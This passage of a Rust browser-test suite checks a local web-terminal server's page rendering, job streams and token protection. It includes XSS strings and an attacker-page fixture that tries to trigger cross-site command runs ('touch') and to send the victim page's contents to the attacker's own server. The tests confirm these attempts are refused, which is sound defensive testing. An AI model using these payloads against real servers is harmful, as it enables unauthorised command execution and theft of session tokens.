    let bars: Vec<&String> = lines[1..].iter().filter(|l| l.contains('%')).collect();
    assert_eq!(bars.len(), 1, "one curl frame at the end: {state:#}");
    assert!(bars[0].starts_with('#') && bars[0].ends_with("100.0%"), "{bars:?}");
    assert!(curl_frames.get() > 0, "a curl frame was seen mid-run: {state:#}");
}

/// §12: OSC 8 links only for http(s) (not `javascript:`, whatever its case
/// or terminator), titles, DCS and charset selections consumed, and output
/// that looks like HTML stays text.
#[test]
fn browser_terminal_links_only_http_and_never_html() {
    let Some(browser) = Browser::available("links", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = r"printf '\033]8;;javascript:alert(1)\033\\bad1\033]8;;\033\\ \033]8;id=x;JavaScript:alert(2)\007bad2\033]8;;\007 \033]8;;https://example.com/x?a=1\033\\good\033]8;;\033\\ \033]0;title\007\033P1$r0m\033\\\033(Bend\n'; printf '<b>notbold</b><img src=x onerror=alert(3)>\n'";
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    let state = browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| status(s).contains("exit code 0"));
    let links = browser.exec(
        "return Array.prototype.map.call(document.querySelectorAll('#output a'),\
           function (a) { return [a.textContent, a.href, a.rel]; });",
        json!([]),
    );
    assert_eq!(
        links,
        json!([["good", "https://example.com/x?a=1", "noopener noreferrer"]]),
        "{state:#}"
    );
    let lines = lines_of(&state["output"]);
    assert_eq!(lines[1], "bad1 bad2 good end", "{state:#}");
    assert_eq!(lines[2], "<b>notbold</b><img src=x onerror=alert(3)>", "{state:#}");
    let tags = browser.exec(
        "return document.querySelectorAll('#output b, #output img').length;",
        json!([]),
    );
    assert_eq!(tags, json!(0), "output became HTML");
}

/// §12's hooks: command, run, status with the exit code, stop, the job list
/// (one `[data-job-id]` per job, a click shows it), the terminal switch
/// (on: `pty=1` and the output area's size; off: `pty=0`); the input line
/// only for a running job with open input.
#[test]
fn browser_automation_hooks_work() {
    let Some(browser) = Browser::available("hooks", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    assert_eq!(
        browser.exec(
            "return document.querySelector('[data-role=terminal]').checked;",
            json!([])
        ),
        json!(true),
        "the terminal is on by default"
    );
    browser.send_keys("[data-role=command]", "echo alpha; exit 3");
    browser.click("[data-role=run]");
    let state = browser.wait_for("exit code 3", PAGE_TIMEOUT, |s| status(s).contains("exit code 3"));
    assert!(lines_of(&state["stdout"]).contains(&"alpha".to_owned()), "{state:#}");
    let alpha = kept_job(&browser);
    let posted = server
        .log()
        .lines()
        .find(|l| l.contains("POST /jobs?command=echo%20alpha"))
        .map(str::to_owned)
        .expect("the POST in the access log");
    let size = |name: &str| -> u32 {
        let key = format!("&{name}=");
        let at = posted.find(&key).unwrap_or_else(|| panic!("no {name} in {posted}")) + key.len();
        posted[at..]
            .split(|c: char| !c.is_ascii_digit())
            .next()
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
    };
    assert!(posted.contains("&pty=1&"), "{posted}");
    // 1000x700 window: the output area is some 90 columns and 20 rows.
    assert!(
        (40..=200).contains(&size("cols")) && (8..=60).contains(&size("rows")),
        "{posted}"
    );

    browser.click("[data-role=terminal]");
    browser.clear("[data-role=command]");
    browser.send_keys("[data-role=command]", &format!("echo gamma{ENTER}"));
    browser.wait_for("gamma, exit code 0", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0") && lines_of(&s["stdout"]).contains(&"gamma".to_owned())
    });
    assert!(
        server
            .log()
            .lines()
            .any(|l| l.contains("POST /jobs?command=echo%20gamma&pty=0 ")),
        "terminal off: pty=0\n{}",
        server.log()
    );

    let marker = common::sleep_marker();
    browser.clear("[data-role=command]");
    browser.send_keys("[data-role=command]", &format!("sleep {marker}"));
    browser.click("[data-role=run]");
    browser.wait_for("status running", PAGE_TIMEOUT, |s| status(s).contains("running"));
    assert_eq!(
        browser.exec(
            "return document.querySelector('[data-role=input]').offsetParent;",
            json!([])
        ),
        Value::Null,
        "no input line for a job without open input"
    );
    browser.click("[data-role=stop]");
    browser.wait_for("status stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));
    server.wait_no_children(KILL_GRACE + Duration::from_secs(3));

    let ids = browser.exec(
        "return Array.prototype.map.call(document.querySelectorAll('[data-role=jobs] [data-job-id]'),\
           function (e) { return e.dataset.jobId; });",
        json!([]),
    );
    assert_eq!(ids.as_array().map(Vec::len), Some(3), "three jobs listed: {ids}");
    browser.click(&format!("[data-role=jobs] [data-job-id=\"{alpha}\"]"));
    // Its output is drawn on the next frame, after the status: wait for both.
    let state = browser.wait_for("the first job shown again", PAGE_TIMEOUT, |s| {
        s["job"] == json!(alpha)
            && status(s).contains("exit code 3")
            && lines_of(&s["output"]).contains(&"alpha".to_owned())
    });
    let lines = lines_of(&state["output"]);
    assert!(
        lines.contains(&"alpha".to_owned()) && !lines.contains(&"gamma".to_owned()),
        "{state:#}"
    );
}

/// §12 "fast": 10 MB of `ls -l --color=always` output through the page. The
/// page notes how long drawing took (`data-draw-ms`); with the longest task
/// the browser saw, the figures are printed for the README. The tab answers
/// WebDriver throughout (each poll is a script run on its main thread), the
/// DOM keeps its line bound, and no escape text shows.
#[test]
fn browser_terminal_draws_10mb_of_colour() {
    let Some(browser) = Browser::available("flood", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);
    browser.exec(
        "window.longest = 0; new PerformanceObserver(function (l) { l.getEntries().forEach(function (e) {\
           window.longest = Math.max(window.longest, e.duration); }); }).observe({type: 'longtask'});",
        json!([]),
    );
    const BYTES: u64 = 10 << 20;
    let command = format!(
        "while ls -l --color=always /usr/bin /usr/lib; do :; done | head -c {BYTES}; printf '\\033[0m\\nEND\\n'"
    );
    let t0 = Instant::now();
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    let mut slowest_poll = Duration::ZERO;
    let state = loop {
        let asked = Instant::now();
        let s = browser.page_state();
        slowest_poll = slowest_poll.max(asked.elapsed());
        if status(&s).contains("exit code 0") {
            break s;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(120),
            "10 MB not drawn in 120 s: {}",
            status(&s)
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    let wall = t0.elapsed();
    browser.screenshot("browser-flood.png");
    let figures = browser.exec(
        "var o = document.getElementById('output');\
         return [Number(o.dataset.drawMs), Number(o.dataset.drawChars), window.longest, o.querySelectorAll('.line').length];",
        json!([]),
    );
    let (ms, chars) = (figures[0].as_f64().unwrap_or(0.0), figures[1].as_f64().unwrap_or(0.0));
    eprintln!(
        "10 MB of colour: drawing {ms:.0} ms for {chars} chars = {:.1} ms/MB; run to exit {wall:?}; \
         longest task {} ms; slowest WebDriver poll {slowest_poll:?}; {} lines kept",
        ms / (chars / f64::from(1 << 20)),
        figures[2],
        figures[3]
    );
    assert!(chars >= BYTES as f64, "every character drawn: {figures}");
    assert!(figures[3].as_u64() <= Some(20_000), "the line bound holds: {figures}");
    let lines = lines_of(&state["stdout"]);
    assert_eq!(lines.last().map(String::as_str), Some("END"), "the end is shown");
    let text = browser.exec("return document.getElementById('output').textContent;", json!([]));
    assert!(
        !text.as_str().unwrap_or("").contains('\u{1b}'),
        "no escape text on the page"
    );
}

/// §12 with §10: a command run on a terminal has an input line under it
/// (focused): Enter sends the line and LF (the terminal echoes it), Ctrl-D
/// ends the input, and the line goes; Ctrl-C in the line, and the ^C
/// button, send INT to the command.
#[test]
fn browser_terminal_input_line_sends_lines_eof_and_ctrl_c() {
    let Some(browser) = Browser::available("input", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = r#"read -r a; echo "got:$a"; cat; echo cat-ended"#;
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    wait_input_line(&browser, true);
    assert_eq!(
        browser.exec("return document.activeElement.dataset.role;", json!([])),
        json!("input"),
        "the input line has focus after Run"
    );
    browser.send_keys("[data-role=input]", &format!("hello{ENTER}"));
    browser.wait_for("got:hello", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).contains(&"got:hello".to_owned())
    });
    browser.send_keys("[data-role=input]", &format!("second{ENTER}"));
    // Once echoed by the terminal, once by cat.
    browser.wait_for("second twice", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().filter(|l| *l == "second").count() == 2
    });
    browser.send_keys("[data-role=input]", &format!("{CONTROL}d"));
    let state = browser.wait_for("cat-ended, exit code 0", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0") && lines_of(&s["stdout"]).contains(&"cat-ended".to_owned())
    });
    assert_eq!(
        lines_of(&state["stdout"]),
        ["hello", "got:hello", "second", "second", "cat-ended"],
        "{state:#}"
    );
    wait_input_line(&browser, false);

    let trap = "trap 'echo int-caught; exit 3' INT; echo ready; while :; do sleep 0.1; done";
    for how in ["key", "button"] {
        browser.clear("[data-role=command]");
        browser.send_keys("[data-role=command]", &format!("{trap}{ENTER}"));
        browser.wait_for("ready", PAGE_TIMEOUT, |s| {
            lines_of(&s["stdout"]).contains(&"ready".to_owned())
        });
        wait_input_line(&browser, true);
        if how == "key" {
            browser.send_keys("[data-role=input]", &format!("{CONTROL}c"));
        } else {
            browser.click("[data-role=interrupt]");
        }
        let state = browser.wait_for("exit code 3", PAGE_TIMEOUT, |s| status(s).contains("exit code 3"));
        assert!(
            lines_of(&state["stdout"]).contains(&"int-caught".to_owned()),
            "{how}: {state:#}"
        );
    }
    browser.screenshot("browser-input.png");
}

/// §12 with §10.4: a command on a terminal learns the output area's size
/// (`stty size`), and the new one when the window is resized.
#[test]
fn browser_terminal_follows_the_window_size() {
    let Some(browser) = Browser::available("resize", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = "trap 'stty size' WINCH; stty size; while :; do sleep 0.1; done";
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    let sizes = |s: &Value| -> Vec<String> {
        lines_of(&s["stdout"])
            .into_iter()
            .filter(|l| l.split(' ').count() == 2 && l.split(' ').all(|n| n.parse::<u32>().is_ok()))
            .collect()
    };
    let state = browser.wait_for("stty size", PAGE_TIMEOUT, |s| !sizes(s).is_empty());
    let first = sizes(&state)[0].clone();
    let log = server.log();
    let posted = log
        .lines()
        .find(|l| l.contains("POST /jobs?command="))
        .expect("the POST");
    assert!(
        posted.contains(&format!(
            "&cols={}&rows={} ",
            first.split(' ').nth(1).unwrap_or(""),
            first.split(' ').next().unwrap_or("")
        )),
        "the terminal has the size the page asked for: {first} {posted}"
    );

    browser.resize_window(760, 520);
    let state = browser.wait_for("a second stty size", PAGE_TIMEOUT, |s| sizes(s).len() >= 2);
    let second = sizes(&state)[1].clone();
    assert_ne!(second, first, "{state:#}");
    let log = server.log();
    let (rows, cols) = second.split_once(' ').unwrap_or_default();
    assert!(
        log.contains(&format!("/resize?cols={cols}&rows={rows} 204")),
        "the page resized the terminal to {second}:\n{log}"
    );
    browser.click("[data-role=stop]");
    browser.wait_for("stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));
}

/// Waits until the input line is shown (or hidden).
/// §12 one stream: ten tabs each run a job printing a numbered, timestamped
/// line every 100 ms. Each tab first runs and stops a command of its own
/// (with the earlier tabs' jobs running: were each tab holding a stream, the
/// seventh tab's requests would wait for one of the browser's six
/// connections to the host). The tabs share one `GET /jobs/events`, held by
/// the tab with the Web Lock: the server counts one stream open (at most
/// two, briefly, while a new leader takes over). Each tab draws each line
/// within 2 s of its printing. The leader tab is closed mid-run; another
/// takes over, and every remaining tab ends with its job's output exactly as
/// the job's own `/jobs/ID/events` has it: no line lost, none twice.
#[test]
fn browser_ten_tabs_share_one_stream() {
    let Some(browser) = Browser::available("tentabs", false) else {
        return;
    };
    const TABS: usize = 10;
    const LINES: u32 = 250;
    let server = common::Server::start(&["--shell"]);
    let mut tabs = Vec::new();
    for k in 0..TABS {
        if k > 0 {
            let tab = browser.new_window();
            browser.switch_to(&tab);
        }
        tabs.push(browser.window());
        open_page_with_token(&browser, &server);
        // Run and Stop answer, with the other tabs' jobs running.
        let marker = common::sleep_marker();
        browser.clear("[data-role=command]");
        browser.send_keys("[data-role=command]", &format!("sleep {marker}{ENTER}"));
        browser.wait_for(&format!("tab {k}: sleep running"), PAGE_TIMEOUT, |s| {
            status(s).contains("running") && s["job"].as_str().is_some()
        });
        browser.click("[data-role=stop]");
        browser.wait_for(&format!("tab {k}: sleep stopped"), PAGE_TIMEOUT, |s| {
            status(s).contains("stopped")
        });
        browser.exec(OBSERVE_LAG, json!([]));
        run_numbered_lines(&browser, k, LINES);
    }
    let modes = stream_modes(&browser, &tabs);
    assert_eq!(
        modes.iter().filter(|m| *m == "leader").count(),
        1,
        "one tab holds the stream, the others are relayed to: {modes:?}"
    );
    assert_eq!(
        server.metric("ssecommander_multiplexed_streams_open"),
        1,
        "one GET /jobs/events open"
    );
    assert_eq!(
        server.metric("ssecommander_streams_open"),
        1,
        "and no other stream open"
    );
    assert_eq!(
        feed_requests(&server),
        1,
        "one GET /jobs/events so far:\n{}",
        server.log()
    );

    // The leader goes; the stream moves to another tab, which resumes.
    let leader = modes.iter().position(|m| m == "leader").expect("a leader");
    browser.switch_to(&tabs[leader]);
    let leader_job = kept_job(&browser);
    let cut = lines_of(&browser.page_state()["stdout"]).len();
    browser.close_window();
    let rest: Vec<(usize, &String)> = tabs.iter().enumerate().filter(|(k, _)| *k != leader).collect();
    let mut worst = 0;
    for (k, tab) in &rest {
        browser.switch_to(tab);
        let state = browser.wait_for(&format!("tab {k}: exit code 0"), Duration::from_secs(60), |s| {
            status(s).contains("exit code 0")
        });
        worst = worst.max(assert_tab_shows_its_job(&browser, &server, *k, &state, LINES));
    }
    eprintln!(
        "ten tabs: worst line {worst} ms after printing; the leader (tab {leader}) left after {cut} of \
         {LINES} lines of job {leader_job}"
    );
    assert!(
        cut < LINES as usize - 20,
        "the leader left after its job had nearly ended; the test proves little"
    );
    assert_eq!(
        feed_requests(&server),
        2,
        "one GET /jobs/events more, from the new leader:\n{}",
        server.log()
    );
    let modes: Vec<Value> = rest
        .iter()
        .map(|(_, tab)| {
            browser.switch_to(tab);
            browser.exec("return document.body.dataset.stream;", json!([]))
        })
        .collect();
    assert_eq!(
        modes.iter().filter(|m| **m == json!("leader")).count(),
        1,
        "a new leader: {modes:?}"
    );
}

/// §12 one stream, where tabs cannot share: an init script removes
/// `navigator.locks` and `BroadcastChannel` (as on plain `http://` to a LAN
/// address, not a secure context) before the page runs. Three tabs each run
/// a job printing a numbered, timestamped line every 100 ms: each tab says
/// it holds its own stream, the server sees exactly three event streams
/// (three `GET /jobs/events`, three open, no other stream), and each tab
/// shows its job's output live (each line within 2 s) and exactly as the
/// job's own `/jobs/ID/events` has it.
#[test]
fn browser_without_locks_holds_one_stream_per_tab() {
    let Some(browser) = Browser::available("nolocks", false) else {
        return;
    };
    const TABS: usize = 3;
    const LINES: u32 = 60;
    let server = common::Server::start(&["--shell"]);
    let no_sharing = "delete Navigator.prototype.locks; delete window.BroadcastChannel;";
    let mut tabs = Vec::new();
    for k in 0..TABS {
        if k > 0 {
            let tab = browser.new_window();
            browser.switch_to(&tab);
        }
        tabs.push(browser.window());
        browser.cdp("Page.addScriptToEvaluateOnNewDocument", json!({ "source": no_sharing }));
        open_page_with_token(&browser, &server);
        let shared = browser.exec("return !!(navigator.locks || window.BroadcastChannel);", json!([]));
        assert_eq!(shared, json!(false), "tab {k}: the init script ran before the page");
        browser.exec(OBSERVE_LAG, json!([]));
        run_numbered_lines(&browser, k, LINES);
    }
    let modes = stream_modes(&browser, &tabs);
    assert_eq!(modes, vec!["own"; TABS], "each tab holds its own stream");
    assert_eq!(
        server.metric("ssecommander_multiplexed_streams_open"),
        TABS as u64,
        "one GET /jobs/events per tab open"
    );
    assert_eq!(
        server.metric("ssecommander_streams_open"),
        TABS as u64,
        "and no other stream open"
    );
    // Counted before this test reads the jobs' own streams itself.
    let job_streams = |log: &str| {
        log.lines()
            .filter(|l| l.contains("/events") && !l.contains("GET /jobs/events"))
            .count()
    };
    let mut states = Vec::new();
    for (k, tab) in tabs.iter().enumerate() {
        browser.switch_to(tab);
        states.push(
            browser.wait_for(&format!("tab {k}: exit code 0"), Duration::from_secs(30), |s| {
                status(s).contains("exit code 0")
            }),
        );
    }
    let log = server.log();
    assert_eq!(
        feed_requests(&server),
        TABS,
        "exactly one GET /jobs/events per tab:\n{log}"
    );
    assert_eq!(
        job_streams(&log),
        0,
        "and no other event stream (each tab heard its job from the start):\n{log}"
    );
    for (k, (tab, state)) in tabs.iter().zip(states).enumerate() {
        browser.switch_to(tab);
        assert_tab_shows_its_job(&browser, &server, k, &state, LINES);
    }
}

/// Records in `window.lag`, for each numbered line `L<tab>-<i> <ms>` drawn,
/// how many ms after its printing it was drawn.
const OBSERVE_LAG: &str = "window.lag = {}; var o = document.getElementById('output');\
    new MutationObserver(function () {\
      o.querySelectorAll('.stdout').forEach(function (e) {\
        var m = /^L(\\d+)-(\\d+) (\\d+)$/.exec(e.textContent);\
        if (m && !(m[2] in window.lag)) window.lag[m[2]] = Date.now() - Number(m[3]);\
      });\
    }).observe(o, {childList: true, subtree: true, characterData: true});";

/// Runs, from tab `k`'s page, a job printing `lines` numbered, timestamped
/// lines every 100 ms, and waits until the tab shows the first.
fn run_numbered_lines(browser: &Browser, k: usize, lines: u32) {
    let command = format!("for i in $(seq 1 {lines}); do echo \"L{k}-$i $(date +%s%3N)\"; sleep 0.1; done");
    browser.clear("[data-role=command]");
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    browser.wait_for(&format!("tab {k}: its first line"), PAGE_TIMEOUT, |s| {
        let first = format!("L{k}-1 ");
        lines_of(&s["stdout"]).iter().any(|l| l.starts_with(&first))
    });
}

/// Each tab's `data-stream`: `leader`, `relayed` or `own`.
fn stream_modes(browser: &Browser, tabs: &[String]) -> Vec<String> {
    tabs.iter()
        .map(|tab| {
            browser.switch_to(tab);
            let mode = browser.exec("return document.body.dataset.stream;", json!([]));
            mode.as_str().unwrap_or_default().to_owned()
        })
        .collect()
}

/// The current tab (`k`, its page state `state` at the end) shows its job's
/// `lines` numbered lines exactly as the job's own `/jobs/ID/events` has
/// them, each once and each drawn within 2 s of its printing. Returns the
/// worst lag, ms.
fn assert_tab_shows_its_job(browser: &Browser, server: &common::Server, k: usize, state: &Value, lines: u32) -> i64 {
    let job = kept_job(browser);
    let mut c = server.connect();
    c.send(&common::job_events_req(server, &job, "?format=json", &[]));
    let head = common::job_stream_head(&mut c);
    let own = common::job_read_stream(&mut c, head, 1).stdout();
    let own: Vec<String> = own.lines().map(|l| l.trim_end_matches('\r').to_owned()).collect();
    assert_eq!(own.len(), lines as usize, "tab {k}'s job printed every line: {own:?}");
    assert_eq!(
        lines_of(&state["stdout"]),
        own,
        "tab {k} shows its job's output exactly, each line once: {state:#}"
    );
    assert_eq!(state["repeats"], json!(0), "tab {k}: {state:#}");
    let lag = browser.exec("return window.lag;", json!([]));
    let lags: Vec<i64> = (1..=lines)
        .map(|i| lag[i.to_string()].as_i64().unwrap_or(i64::MAX))
        .collect();
    let max = lags.iter().copied().max().unwrap_or(i64::MAX);
    assert!(
        max <= 2000,
        "tab {k}: a line drawn {max} ms after its printing: {lags:?}"
    );
    max
}

fn wait_input_line(browser: &Browser, shown: bool) {
    poll_for(
        &format!("the input line to be {}", if shown { "shown" } else { "hidden" }),
        PAGE_TIMEOUT,
        || {
            let visible = browser.exec(
                "return !!document.querySelector('[data-role=input]').offsetParent;",
                json!([]),
            );
            (visible == json!(shown)).then_some(())
        },
    );
}

/// Each run of text on the page (a child of a line): its text, stream and
/// computed style.
fn output_runs(browser: &Browser) -> Vec<Value> {
    let runs = browser.exec(
        "return Array.prototype.map.call(document.querySelectorAll('#output .line > *'), function (e) {\
           var c = getComputedStyle(e);\
           return {text: e.textContent, stream: e.classList.contains('stderr') ? 'stderr' : 'stdout',\
             color: c.color, bg: c.backgroundColor, weight: c.fontWeight, style: c.fontStyle,\
             decoration: c.textDecorationLine, opacity: c.opacity};\
         });",
        json!([]),
    );
    runs.as_array().cloned().unwrap_or_default()
}

/// A tiny HTTP server on 127.0.0.1 that answers every GET with `size` zero
/// bytes (for curl's progress bar). Stops accepting when dropped.
struct FileServer {
    port: u16,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl FileServer {
    fn start(size: usize) -> FileServer {
        use std::sync::atomic::{AtomicBool, Ordering};
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the file server");
        listener.set_nonblocking(true).expect("nonblocking listener");
        let port = listener.local_addr().expect("local addr").port();
        let stop = std::sync::Arc::new(AtomicBool::new(false));
        let stop2 = stop.clone();
        std::thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(120);
            while !stop2.load(Ordering::Relaxed) && Instant::now() < deadline {
                match listener.accept() {
                    Ok((stream, _)) => {
                        std::thread::spawn(move || serve_zeros(stream, size));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        FileServer { port, stop }
    }
}

impl Drop for FileServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

fn serve_zeros(mut stream: TcpStream, size: usize) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(30)));
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 64 * 1024 {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    let reply = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {size}\r\nConnection: close\r\n\r\n"
    );
    if stream.write_all(reply.as_bytes()).is_err() {
        return;
    }
    let zeros = vec![0u8; 64 * 1024];
    let mut left = size;
    while left > 0 {
        let n = left.min(zeros.len());
        if stream.write_all(&zeros[..n]).is_err() {
            return;
        }
        left -= n;
    }
}

// ---------------------------------------------------------------- helpers

/// `None` (after a loud SKIPPED line) when the browser is not installed and not
/// required; the lock serialises the browser tests.
/// Opens the printed `?token=` URL: the page keeps the token in the tab's
/// `sessionStorage` and takes it out of the address bar; no cookie is set
/// and the token is nowhere in the page.
fn open_page_with_token(browser: &Browser, server: &common::Server) {
    let token = server.token.as_deref().expect("the server prints a ?token= URL");
    browser.goto(&server.url);
    let want = format!("{}/", server.base.trim_end_matches('/'));
    let state = browser.wait_for(
        "the page at / with the token gone from the address",
        PAGE_TIMEOUT,
        |s| s["url"] == json!(want) && s["hasCommand"] == json!(true),
    );
    assert_eq!(
        browser.exec("return sessionStorage.getItem('ssecommander_token');", json!([])),
        json!(token),
        "§4 (v3): the page keeps the token in sessionStorage"
    );
    assert!(
        browser.cookies().is_empty(),
        "§4 (v3): no cookie is set: {:?}",
        browser.cookies()
    );
    let html = browser.exec(
        "return document.documentElement.outerHTML + history.length + document.cookie;",
        json!([]),
    );
    assert!(
        !html.as_str().unwrap_or("").contains(token),
        "the token leaked into the page: {state:#}"
    );
    assert!(
        !no_token_notice(&state),
        "the no-token notice shows with a token: {state:#}"
    );
}

/// The job id the page keeps in the tab's `sessionStorage`.
fn kept_job(browser: &Browser) -> String {
    let job = browser.exec("return sessionStorage.getItem('ssecommander_job');", json!([]));
    job.as_str().unwrap_or_default().to_owned()
}

/// The numbers of the stdout lines `PREFIXn` on the page, in page order.
fn numbered(state: &Value, prefix: &str) -> Vec<u32> {
    lines_of(&state["stdout"])
        .iter()
        .filter_map(|l| l.strip_prefix(prefix).and_then(|n| n.parse().ok()))
        .collect()
}

/// How many requests for the job's event stream the server logged.
fn events_requests(server: &common::Server, job: &str) -> usize {
    let path = format!("/jobs/{job}/events");
    server.log().lines().filter(|l| l.contains(&path)).count()
}

/// How many `GET /jobs/events` (the page's one stream) the server logged.
fn feed_requests(server: &common::Server) -> usize {
    server.log().lines().filter(|l| l.contains("GET /jobs/events")).count()
}

/// Tears down every TCP connection to `port` on 127.0.0.1 (the kernel's
/// `SOCK_DESTROY` through `ss -K`): both ends see the connection reset.
fn kill_sockets_to(port: u16) {
    let filter = format!(":{port}");
    let out = Command::new("ss")
        .args(["-K", "-t", "dst", "127.0.0.1", "dport", "=", &filter])
        .output()
        .expect("run ss (iproute2)");
    let listed = String::from_utf8_lossy(&out.stdout);
    assert!(
        listed.lines().count() > 1,
        "ss -K found no connection to port {port}: {listed}{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// True when the page shows its "needs the token" notice.
fn no_token_notice(state: &Value) -> bool {
    state["notice"].as_str().is_some_and(|n| n.contains("?token="))
}

/// Runs the attack of [`browser_attacker_page_runs_nothing_and_learns_no_token`]
/// against a server started with `args`.
fn attack(browser: &Browser, args: &[&str]) {
    let server = common::Server::start(args);
    let dir = common::scratch_dir("attack");
    let victim = server.base.trim_end_matches('/').to_owned();
    let attacker = Attacker::start(&victim, dir.str());
    // The user opens the printed URL (the flow itself is checked by
    // open_page_with_token in the other tests).
    browser.goto(&server.url);
    browser.wait_for("the page", PAGE_TIMEOUT, |s| s["hasCommand"] == json!(true));
    if server.token.is_none() {
        // Without a token the page asks the server whether it needs one; under
        // --no-auth it must not then ask the user for one.
        let probed = "return performance.getEntriesByType('resource')\
                      .some(function (e) { return /\\/jobs$/.test(e.name); });";
        poll_for("the page's token probe", PAGE_TIMEOUT, || {
            (browser.exec(probed, json!([])) == json!(true)).then_some(())
        });
        std::thread::sleep(Duration::from_millis(300)); // the probe's handler runs after its entry
        let state = browser.page_state();
        assert!(
            !no_token_notice(&state),
            "--no-auth, yet the page asks for a token: {state:#}"
        );
    }

    // Same site (another port of 127.0.0.1), then another site (localhost).
    let rounds = [
        ("s", format!("http://127.0.0.1:{}", attacker.port)),
        ("x", format!("http://localhost:{}", attacker.port)),
    ];
    for (round, origin) in &rounds {
        browser.goto(&format!("{origin}/attack?round={round}"));
        let landed = format!("{victim}/run?command=");
        browser.wait_for("the attacker page's top-level navigation to /run", PAGE_TIMEOUT, |s| {
            s["url"].as_str().is_some_and(|u| u.starts_with(&landed))
        });
        browser.screenshot(&format!("browser-attack-{round}.png"));
        // Every attempt must have reached the server, and been refused.
        let tags: Vec<String> = ATTEMPTS.iter().map(|a| format!("{round}-{a}")).collect();
        let lines = poll_for("an access line for each attempt", PAGE_TIMEOUT, || {
            let log = server.log();
            let lines: Vec<String> = tags
                .iter()
                .filter_map(|t| {
                    log.lines()
                        .find(|l| l.contains(&format!("%2F{t} ")) || l.contains(&format!("/{t} ")))
                })
                .map(str::to_owned)
                .collect();
            (lines.len() == tags.len()).then_some(lines)
        });
        for line in &lines {
            assert!(
                line.trim_end().ends_with(" 403"),
                "§4 (v3): an attempt was not refused with 403: {line}"
            );
        }
    }
    std::thread::sleep(Duration::from_secs(1)); // a wrongly started `touch` has had time to show
    let ran: Vec<String> = std::fs::read_dir(dir.path())
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        ran.is_empty(),
        "§4 (v3): the attacker page ran commands: {ran:?}\nserver log:\n{}",
        server.log()
    );
    let seen = attacker.requests();
    for request in &seen {
        eprintln!("attacker's server got: {}", request.lines().next().unwrap_or(""));
    }
    assert!(
        seen.iter().any(|r| r.contains("GET /report?navigating")),
        "the attacker page did not run to its end; its server saw:\n{}",
        seen.join("\n")
    );
    if let Some(token) = server.token.as_deref() {
        let leaks: Vec<&String> = seen.iter().filter(|r| r.contains(token)).collect();
        assert!(
            leaks.is_empty(),
            "§4 (v3): the attacker's server received the token:\n{leaks:#?}"
        );
    }

    // Control: the user's own page, in the same tab, still runs commands.
    browser.goto(&format!("{victim}/"));
    let control = format!("{}/control", dir.str());
    browser.send_keys("#command", &format!("touch {control}{ENTER}"));
    let state = browser.wait_for("the control command to exit 0", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    assert!(
        !no_token_notice(&state),
        "the page asks for a token it has or does not need: {state:#}"
    );
    assert!(
        Path::new(&control).exists(),
        "control: the user's own page could not run touch"
    );
}

/// What the attacker page tries, each a `touch DIR/ROUND-NAME`.
const ATTEMPTS: &[&str] = &["img", "iframe", "nocors", "cors", "es", "nav"];

/// The attacker's page: every way to make the browser send a request to the
/// victim, then a top-level navigation. It reports to its own server, which
/// logs every request it gets.
fn attacker_page(victim: &str, dir: &str, round: &str) -> String {
    format!(
        r#"<!doctype html><meta charset="utf-8"><title>attacker</title><body>
<script>
var V = {victim:?}, D = {dir:?}, R = {round:?};
function run(tag) {{ return V + "/run?command=" + encodeURIComponent("touch " + D + "/" + R + "-" + tag); }}
function report(what) {{ new Image().src = "/report?" + encodeURIComponent(what); }}
new Image().src = run("img");
var f = document.createElement("iframe"); f.src = run("iframe"); document.body.appendChild(f);
fetch(run("nocors"), {{mode: "no-cors", credentials: "include"}}).then(function () {{ report("nocors-sent"); }}, function (e) {{ report("nocors-failed " + e); }});
fetch(run("cors"), {{credentials: "include"}}).then(function (r) {{ return r.text().then(function (t) {{ report("cors-read " + r.status + " " + t); }}); }}, function (e) {{ report("cors-failed " + e); }});
var es = new EventSource(run("es"), {{withCredentials: true}}); es.onerror = function () {{ es.close(); report("es-error"); }};
fetch(V + "/", {{credentials: "include"}}).then(function (r) {{ return r.text(); }}).then(function (t) {{ report("page-read " + t); }}, function (e) {{ report("page-failed " + e); }});
